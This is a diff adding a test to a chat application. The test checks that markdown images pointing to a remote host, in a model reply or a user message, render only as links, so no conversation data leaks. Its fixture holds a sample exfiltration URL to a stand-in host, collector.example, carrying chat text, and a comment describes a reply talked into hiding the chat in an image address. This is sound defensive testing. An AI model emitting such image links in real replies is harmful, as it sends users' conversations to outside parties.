@@ -343,3 +343,21 @@ def wait_for(condition, timeout=10.0):
     while not condition():
         assert time.monotonic() < deadline, "condition not met in time"
         time.sleep(0.02)
+
+
+def test_a_remote_image_in_a_reply_or_a_message_loads_nothing(api_client, session, upstream):
+    # A reply talked into hiding the chat in an image address: the page would fetch it as it opens.
+    leak = "https://collector.example/p.png?chat=secret+words"
+    upstream.enqueue_text(f"Sure! ![status]({leak}) and ours: ![plot](/media/generated/{session.pk}/a.png)")
+
+    events = events_only(parse_events(send(api_client, session, f"Look: ![me]({leak})", stream=True).streaming_content))
+
+    html = next(e for e in events if e.event == "assistant_message").data["content_html"]
+    ours = f'<img src="/media/generated/{session.pk}/a.png" alt="plot">'
+    assert ours in html
+    assert "<img" not in html.replace(ours, ""), html
+    assert f'<a href="{leak}" rel="noopener noreferrer nofollow">status</a>' in html  # followed only on purpose
+    page = api_client.get(f"/chat/{session.pk}/").content.decode()
+    assert "collector.example" in page  # the message and the reply are there, as links
+    assert 'src="https://collector.example' not in page
+    assert ours in page
